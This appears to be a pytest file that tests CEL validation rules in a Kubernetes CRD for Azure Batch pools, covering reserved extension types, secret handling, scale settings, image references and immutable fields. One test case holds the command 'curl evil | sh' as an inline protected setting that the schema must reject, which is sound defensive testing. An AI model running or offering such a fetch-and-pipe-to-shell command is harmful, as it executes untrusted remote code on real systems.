"""The CRD's CEL rules, evaluated with cel-python on the examples and on objects that break each rule."""

from __future__ import annotations

import copy
from typing import Any

import cel_harness
import pytest
from crd_examples import example_pools

EXAMPLES = example_pools()
EXT = ("spec", "deploymentConfiguration", "virtualMachineConfiguration", "extensions", 0)


def _pool(**changes: Any) -> dict[str, Any]:
    pool = copy.deepcopy(EXAMPLES["keyvault-linux"])
    for dotted, value in changes.items():
        _set(pool, tuple(int(p) if p.isdigit() else p for p in dotted.split("__")), value)
    return pool


def _set(document: Any, path: tuple[Any, ...], value: Any) -> None:
    for part in path[:-1]:
        document = document[part]
    if value is _DELETE:
        del document[path[-1]]
    else:
        document[path[-1]] = value


_DELETE = object()
VMC = "spec__deploymentConfiguration__virtualMachineConfiguration"


def test_every_rule_compiles(schema: dict[str, Any]) -> None:
    found = list(cel_harness.rules(schema))
    assert len(found) >= 7
    for _, rule in found:
        cel_harness._program(rule)


@pytest.mark.parametrize("name", sorted(EXAMPLES))
def test_the_examples_pass_every_rule(schema: dict[str, Any], name: str) -> None:
    assert cel_harness.rejections(schema, EXAMPLES[name]) == []
    assert cel_harness.rejections(schema, EXAMPLES[name], old=EXAMPLES[name]) == []


@pytest.mark.parametrize("extension_type", ["CustomScript", "customScript", "CUSTOMSCRIPT"])
def test_the_custom_script_extension_type_is_reserved(schema: dict[str, Any], extension_type: str) -> None:
    pool = _pool(**{f"{VMC}__extensions__0__type": extension_type})
    assert cel_harness.rejections(schema, pool) == [
        ".spec.deploymentConfiguration.virtualMachineConfiguration.extensions[0]: the CustomScript "
        "extension type is reserved for the Azure Batch service and cannot be used: run setup commands in "
        "spec.startTask instead"
    ]


def test_an_extension_type_that_only_contains_custom_script_is_allowed(schema: dict[str, Any]) -> None:
    assert (
        cel_harness.rejections(schema, _pool(**{f"{VMC}__extensions__0__type": "MyCustomScriptRunner"})) == []
    )


@pytest.mark.parametrize(
    "protected",
    [{"commandToExecute": "curl evil | sh"}, {}, {"secretKeyRef": None}],
    ids=["inline-object", "empty", "null-ref"],
)
def test_inline_protected_settings_are_rejected(schema: dict[str, Any], protected: Any) -> None:
    pool = _pool(**{f"{VMC}__extensions__0__protectedSettings": protected})
    (failure,) = cel_harness.rejections(schema, pool)
    assert failure.startswith(
        ".spec.deploymentConfiguration.virtualMachineConfiguration.extensions[0].protectedSettings"
    )
    assert "inline secret values are refused" in failure


def test_protected_settings_from_a_secret_are_admitted(schema: dict[str, Any]) -> None:
    ref = {"secretKeyRef": {"name": "kv", "key": "protected.json"}}
    assert cel_harness.rejections(schema, _pool(**{f"{VMC}__extensions__0__protectedSettings": ref})) == []


@pytest.mark.parametrize(
    "scale",
    [
        {},
        {"fixedScale": {"targetDedicatedNodes": 1}, "autoScale": {"formula": "$TargetDedicatedNodes=1"}},
    ],
    ids=["neither", "both"],
)
def test_exactly_one_of_fixed_and_auto_scale(schema: dict[str, Any], scale: dict[str, Any]) -> None:
    assert cel_harness.rejections(schema, _pool(spec__scaleSettings=scale)) == [
        ".spec.scaleSettings: set exactly one of scaleSettings.fixedScale or scaleSettings.autoScale"
    ]


def test_reserved_metadata_names(schema: dict[str, Any]) -> None:
    pool = _pool(
        spec__metadata=[{"name": "team", "value": "a"}, {"name": "azbatch.dev/owner", "value": "me"}]
    )
    (failure,) = cel_harness.rejections(schema, pool)
    assert failure.startswith(".spec.metadata[1]: metadata names starting with 'azbatch.dev/' are reserved")


def test_virtual_machine_configuration_is_required(schema: dict[str, Any]) -> None:
    for pool in (_pool(spec__deploymentConfiguration={}), _pool(spec__deploymentConfiguration=_DELETE)):
        (failure,) = cel_harness.rejections(schema, pool)
        assert failure.startswith(".spec: Batch pools need a Virtual Machine Configuration")


@pytest.mark.parametrize(
    ("image_id", "refused"),
    [
        ("/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/images/my-image", True),
        ("/subscriptions/s/resourceGroups/g/providers/microsoft.compute/IMAGES/my-image/", True),
        ("/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/galleries/gal/images/def", False),
        (
            "/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/galleries/gal/images/def/versions/1.0.0",
            False,
        ),
    ],
)
def test_managed_images_are_refused_gallery_images_admitted(
    schema: dict[str, Any], image_id: str, refused: bool
) -> None:
    pool = _pool(**{f"{VMC}__imageReference": {"id": image_id}})
    failures = cel_harness.rejections(schema, pool)
    assert bool(failures) == refused
    if refused:
        assert "Azure Compute Gallery" in failures[0]


class TestPoolNameIsImmutable:
    def test_changing_it_is_rejected(self, schema: dict[str, Any]) -> None:
        (failure,) = cel_harness.rejections(schema, _pool(spec__poolName="other"), old=_pool())
        assert failure.startswith(
            "<root>: the Azure pool name (spec.poolName, default metadata.name) is immutable"
        )

    def test_keeping_it_is_admitted(self, schema: dict[str, Any]) -> None:
        assert cel_harness.rejections(schema, _pool(spec__vmSize="STANDARD_D4"), old=_pool()) == []

    def test_writing_out_the_default_is_admitted(self, schema: dict[str, Any]) -> None:
        old = _pool(spec__poolName=_DELETE)
        assert cel_harness.rejections(schema, _pool(spec__poolName="keyvault-linux"), old=old) == []

    def test_setting_a_different_name_later_is_rejected(self, schema: dict[str, Any]) -> None:
        old = _pool(spec__poolName=_DELETE)
        assert len(cel_harness.rejections(schema, _pool(spec__poolName="test1"), old=old)) == 1

    def test_removing_a_name_that_differs_from_the_default_is_rejected(self, schema: dict[str, Any]) -> None:
        assert len(cel_harness.rejections(schema, _pool(spec__poolName=_DELETE), old=_pool())) == 1

    def test_it_is_not_checked_on_create(self, schema: dict[str, Any]) -> None:
        assert cel_harness.rejections(schema, _pool(spec__poolName="anything")) == []


class TestTheAccountIsFixedOnceThePoolExists:
    def _made(self) -> dict[str, Any]:
        made = _pool()
        made["status"] = {"pool": {"provisioningState": "Succeeded"}}
        return made

    def test_moving_a_pool_that_exists_is_rejected(self, schema: dict[str, Any]) -> None:
        moved = _pool(spec__account__accountName="otheraccount")
        (failure,) = cel_harness.rejections(schema, moved, old=self._made())
        assert failure.startswith("<root>: spec.account cannot change once its pool exists")
        assert "create a BatchPool for the new account" in failure

    def test_correcting_the_account_before_any_pool_is_admitted(self, schema: dict[str, Any]) -> None:
        corrected = _pool(spec__account__accountName="rightaccount")
        assert cel_harness.rejections(schema, corrected, old=_pool()) == []
        stalled = _pool()
        stalled["status"] = {"conditions": []}  # e.g. Stalled: the account was not found
        assert cel_harness.rejections(schema, corrected, old=stalled) == []

    def test_other_changes_and_status_writes_are_admitted(self, schema: dict[str, Any]) -> None:
        resized = _pool(spec__vmSize="STANDARD_D4")
        resized["status"] = self._made()["status"]
        assert cel_harness.rejections(schema, resized, old=self._made()) == []


def test_pruning_drops_undeclared_fields_but_keeps_extension_settings(schema: dict[str, Any]) -> None:
    pool = _pool(spec__unknownField=1)
    pruned = cel_harness.prune(schema, pool, root=True)
    assert "unknownField" not in pruned["spec"]
    settings = pruned["spec"]["deploymentConfiguration"]["virtualMachineConfiguration"]["extensions"][0][
        "settings"
    ]
    assert (
        settings
        == EXAMPLES["keyvault-linux"]["spec"]["deploymentConfiguration"]["virtualMachineConfiguration"][
            "extensions"
        ][0]["settings"]
    )
